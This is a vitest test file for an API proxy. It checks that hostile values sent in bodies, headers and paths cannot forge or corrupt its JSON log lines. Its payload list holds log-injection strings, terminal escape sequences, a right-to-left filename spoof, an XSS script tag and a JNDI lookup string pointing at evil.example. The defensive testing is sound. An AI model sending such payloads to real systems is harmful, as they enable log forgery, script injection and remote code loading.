import { afterAll, beforeAll, expect, it } from 'vitest';
import { askRaw } from '../support/raw-ask.js';
import { rawRequest } from '../support/raw-http.js';
import { note } from '../support/release.js';
import { key, Rig } from '../support/rig.js';
import { until } from '../support/until.js';

/** Each begins with what ends a line, a string or the patience of a terminal. */
const HOSTILE = [
  '\n{"level":"info","event":"forged"}',
  '\r\n{"level":"info","event":"forged"}',
  '"}\n{"level":"error","event":"forged","x":"',
  '\\"}\\n{"event":"forged"}',
  '\u2028{"event":"forged"}\u2029',
  '\u0085{"event":"forged"}',
  '\x1b[2J\x1b[1;1H\x1b]0;owned\x07',
  '\x9b31m\x9c',
  '\u202egnp.exe',
  '\0\x01\x02\x7f',
  '%0a%0d%1b[2J',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '\ud800',
  'x'.repeat(1_000_000),
];

let rig: Rig;
beforeAll(async () => {
  rig = await Rig.start({ keys: [key('1')], env: { PROXY_LOG_LEVEL: 'debug' } });
});
afterAll(() => rig.stop());

it(`${HOSTILE.length} hostile values in every field that is told: one line of JSON for each request, and none forged`, async () => {
  const before = rig.proxy.lines.length;
  const ids: (string | null)[] = [];
  for (const value of HOSTILE) {
    const bodies = [
      { model: value },
      { metadata: { session_id: value, session_name: value, pool_id: value } },
      { prompt_cache_key: value },
      { previous_response_id: value },
      { model: 'fault:echo_error', input: value },
    ];
    for (const body of bodies) ids.push((await rig.client.send({ body })).proxyRequestId);
    const header = Buffer.from(value.slice(0, 8_000))
      .toString('latin1')
      .replaceAll(/[\r\n\0]/g, ' ');
    for (const name of [
      'user-agent',
      'x-session-id',
      'x-proxy-session-name',
      'x-proxy-pool-id',
      'authorization',
      'x-codex-turn-metadata',
    ])
      await askRaw(
        rig.proxy.port,
        rawRequest(
          'POST',
          '/v1/responses',
          ['content-type: application/json', `${name}: ${header}`],
          '{"model":"gpt-5.5"}',
        ),
      );
    // A lone surrogate cannot be encoded.
    const path = encodeURIComponent(Buffer.from(value.slice(0, 2_000)).toString());
    for (const where of [
      `/v1/responses/${path}`,
      `/v1/responses/r?q=${path}`,
      `/admin/requests/${path}`,
      `/admin/requests?model=${path}`,
    ])
      await askRaw(rig.proxy.port, rawRequest('GET', where, []));
  }
  await rig.proxy.idle();
  const told = (id: string | null): number =>
    rig.proxy.logs.filter((line) => line['id'] === id && line['msg'] === 'request').length;
  // Lines are written some at a time.
  await until(() => told(ids.at(-1) ?? null) > 0, { what: 'the line of the last request' });
  expect(ids.map((id, n) => [n, told(id)])).toEqual(ids.map((_, n) => [n, 1]));
  const lines = rig.proxy.lines.slice(before);
  for (const line of lines) {
    expect(() => JSON.parse(line) as unknown, line.slice(0, 200)).not.toThrow();
    // Control characters of either set, separators and marks that turn text around.
    expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202e]/);
    expect(line.length).toBeLessThan(20_000);
  }
  const logs = rig.proxy.logs.slice();
  expect(logs.some((line) => line['event'] === 'forged' || 'x' in line)).toBe(false);
  note('S17', 'hostile values', HOSTILE.length);
  note('S17', 'lines, each of them JSON', lines.length);
  expect(lines.length).toBeGreaterThan(HOSTILE.length * 5);
}, 60_000);
